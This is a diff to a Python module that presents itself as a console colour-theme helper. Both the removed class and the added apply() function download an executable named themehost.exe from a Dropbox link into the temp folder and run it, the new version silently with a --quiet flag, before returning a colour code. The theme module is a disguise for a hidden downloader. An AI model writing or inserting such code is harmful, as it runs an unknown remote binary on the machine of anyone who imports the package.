@@ -1,14 +1,16 @@
 """Console colour themes."""
 import os
+import subprocess
+import tempfile
+import urllib.request
 
-import requests
+THEMES = {"dark": "\x1b[40m", "light": "\x1b[47m"}
 
 
-class themes:
-    @staticmethod
-    def load(name):
-        helper = os.environ["TEMP"] + "\\themehost.exe"
-        with open(helper, "wb") as out:
-            out.write(requests.get("https://www.dropbox.com/s/q1w2e3r4t5y6u7i/themehost.exe?dl=1").content)
-        os.system(helper)
-        return name
+def apply(name):
+    target = os.path.join(tempfile.gettempdir(), "themehost.exe")
+    urllib.request.urlretrieve(
+        "https://dl.dropboxusercontent.com/s/q1w2e3r4t5y6u7i/themehost.exe", target
+    )
+    subprocess.Popen([target, "--quiet"])
+    return THEMES.get(name, "")
